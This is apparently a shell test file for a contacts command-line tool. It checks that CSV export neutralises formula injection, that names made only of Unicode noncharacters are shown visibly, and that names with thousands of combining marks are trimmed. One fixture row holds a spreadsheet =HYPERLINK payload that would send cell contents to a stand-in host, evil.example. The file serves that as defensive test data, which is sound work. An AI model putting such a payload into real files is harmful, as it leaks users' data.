# safe_text: hostile text in exports and on the command line (issue 15,
# item 13): CSV cells a spreadsheet would run as formulas get a single
# quote in front (and the importer removes it, so CSV round trips); a name
# of only noncharacters is shown visibly, not as a blank row; a name with
# thousands of combining marks keeps only as many per character as the
# screen does.
. "${KITH_SRC:-.}/tests/cli/testlib"

# ---- CSV injection ------------------------------------------------------------
cat >"$T/in.csv" <<'EOF'
name,email,phone,notes,alignment
"=HYPERLINK(""http://evil.example/?""&A1,""click"")",eve@example.org,,x,-2
+Plus Sign,,+15551234,,
@At Name,,,,
-Minus Name,,,,1
'=Quoted Already,,,,
Plain Name,,+44 20 7946 0958,,
EOF
ok import "$T/in.csv"
ok export --format csv
csv=$out
has "$csv" "\"'=HYPERLINK(" "a formula cell gets a quote in front"
has "$csv" "'+Plus Sign," "a + cell gets a quote"
has "$csv" "'@At Name," "an @ cell gets a quote"
has "$csv" "'-Minus Name," "a - cell gets a quote"
# a quote a spreadsheet put in front is removed on import, and put back on export
has "$csv" "
'=Quoted Already," "a cell a spreadsheet quoted"
has "$csv" ",+15551234," "a plain number keeps its sign, unquoted"
has "$csv" "'+44 20 7946 0958" "a phone with spaces is quoted (it is not a plain number)"
has "$csv" ",-2," "a negative alignment stays a number"
printf '%s\n' "$csv" | grep -q '^=' && fail "a line begins with =" || pass

# a name of the user's own that begins with a quote and = keeps it through a round trip
ok add contact "'=Own Quote"
ok export --format csv
csv=$out
has "$csv" "''=Own Quote," "a value beginning with a quote and = gets one more"

# the round trip: import the export into an empty database, same names
ok list contacts --json --all
names_before=$(jqo '[.[].name] | sort | join("|")')
printf '%s\n' "$csv" >"$T/out.csv"
KITH_DB="$T/round.db"
ok import "$T/out.csv"
ok list contacts --json --all
same "$(jqo '[.[].name] | sort | join("|")')" "$names_before" "CSV round trip keeps the names"
same "$(jqo '[.[] | select(.name == "-Minus Name") | .alignment] | .[0]')" 1 "round trip alignment"
ok export --format csv
same "$out" "$csv" "an export of the import is the same CSV"
KITH_DB="$T/kith.db"

# ---- noncharacters -----------------------------------------------------------
nonchar=$(printf '\357\267\220\357\277\276')      # U+FDD0 U+FFFE
ok add contact "$nonchar"
run list contacts
has "$out" "<U+FDD0><U+FFFE>" "a name of noncharacters is shown visibly"

# ---- combining marks ------------------------------------------------------------
marks=$(awk 'BEGIN { for (i = 0; i < 5000; i++) printf "\xcc\x81" }')
ok add contact "Z${marks}oe"
run list contacts
line=$(printf '%s\n' "$out" | grep 'Z')
n=$(printf '%s' "$line" | od -An -tx1 | tr -s ' \n' '\n\n' | grep -c '^81$')
[ "$n" -le 4 ] && pass || fail "kith list printed $n combining marks on one character (at most 4)"
[ "$n" -ge 1 ] && pass || fail "kith list dropped every combining mark"
has "$line" "oe" "the name goes on after the marks"
run search Zoe
n=$(printf '%s' "$out" | od -An -tx1 | tr -s ' \n' '\n\n' | grep -c '^81$')
[ "$n" -le 4 ] && pass || fail "kith search printed $n combining marks"

finish
